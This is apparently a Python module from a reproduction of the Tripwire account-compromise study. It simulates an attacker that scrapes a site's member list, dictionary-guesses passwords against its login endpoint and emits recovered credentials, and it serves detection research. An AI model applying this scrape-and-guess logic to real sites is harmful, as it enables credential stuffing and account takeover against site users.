@@ -1,0 +1,121 @@
+"""Online brute-forcing at the site itself (Sections 4.4 and 6.3.5).
+
+The paper considers the possibility that "an attacker somehow guesses
+our usernames (or a site exposes them) and the site does not prevent
+brute-forcing attempts on its accounts" — sites E/F listed usernames on
+public pages and had no login rate limiting.  "While unlikely, we
+consider this within the bounds of attacks that Tripwire should
+detect": the attacker ends up holding valid site credentials and reuses
+them at the email provider, which convicts the site exactly as a
+database breach would.
+
+The attack is fully mechanical: scrape the public member list over
+HTTP, run a dictionary against the site's login endpoint (bounded by
+whatever rate limiting the site enforces), and emit recovered
+credentials in the checker's format.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from repro.attacker.cracking import CrackedCredential, dictionary_guesses
+from repro.html.parser import parse_html
+from repro.net.ipaddr import IPv4Address
+from repro.net.transport import Transport, TransportError
+from repro.util.timeutil import SimInstant
+
+
+@dataclass
+class BruteForceStats:
+    """Accounting for one site attack."""
+
+    usernames_found: int = 0
+    login_attempts: int = 0
+    locked_out_accounts: int = 0
+    credentials_recovered: int = 0
+
+
+class SiteBruteForcer:
+    """Scrape-and-guess attacker against one site's login endpoint."""
+
+    #: Attempts per account before moving on (cost control, not ethics).
+    MAX_GUESSES_PER_ACCOUNT = 2000
+
+    def __init__(
+        self,
+        transport: Transport,
+        attacker_ip: IPv4Address,
+        provider_domain: str = "bigmail.example",
+    ):
+        self._transport = transport
+        self._ip = attacker_ip
+        #: The provider the attacker guesses for username@provider
+        #: reuse.  Tripwire site usernames are 14-char prefixes of the
+        #: email local (§4.1.1), so the guess only lands for short
+        #: locals — an honest coverage gap of this attack channel.
+        self._provider_domain = provider_domain.lower()
+        self.stats = BruteForceStats()
+
+    def harvest_usernames(self, host: str) -> list[str]:
+        """Scrape the public member directory, if the site has one."""
+        try:
+            response = self._transport.get(f"http://{host}/users", client_ip=self._ip)
+        except TransportError:
+            return []
+        if not response.ok:
+            return []
+        dom = parse_html(response.body)
+        usernames = [
+            node.text_content()
+            for node in dom.find_all("li")
+            if "member" in node.classes
+        ]
+        self.stats.usernames_found = len(usernames)
+        return usernames
+
+    def attack(self, host: str, when: SimInstant) -> list[CrackedCredential]:
+        """Run the full scrape-and-guess attack; returns working creds.
+
+        A site with login rate limiting locks the account long before a
+        dictionary completes, so only unprotected sites (like E/F) leak.
+        """
+        recovered: list[CrackedCredential] = []
+        guesses = dictionary_guesses()[: self.MAX_GUESSES_PER_ACCOUNT]
+        for username in self.harvest_usernames(host):
+            hit = self._guess_account(host, username, guesses)
+            if hit is None:
+                continue
+            recovered.append(
+                CrackedCredential(
+                    site_host=host,
+                    username=username,
+                    # Reuse attacks try the username as an email local
+                    # part at major providers — exactly how Tripwire's
+                    # site usernames map back to its accounts.
+                    email=f"{username}@{self._provider_domain}",
+                    password=hit,
+                    available_at=when,
+                )
+            )
+        self.stats.credentials_recovered = len(recovered)
+        return recovered
+
+    def _guess_account(self, host: str, username: str, guesses: list[str]) -> str | None:
+        for guess in guesses:
+            self.stats.login_attempts += 1
+            try:
+                response = self._transport.post(
+                    f"http://{host}/login",
+                    {"login": username, "password": guess},
+                    client_ip=self._ip,
+                )
+            except TransportError:
+                return None
+            if response.status == 429:
+                # Rate limited: the site's protection won (§4.4).
+                self.stats.locked_out_accounts += 1
+                return None
+            if response.ok:
+                return guess
+        return None
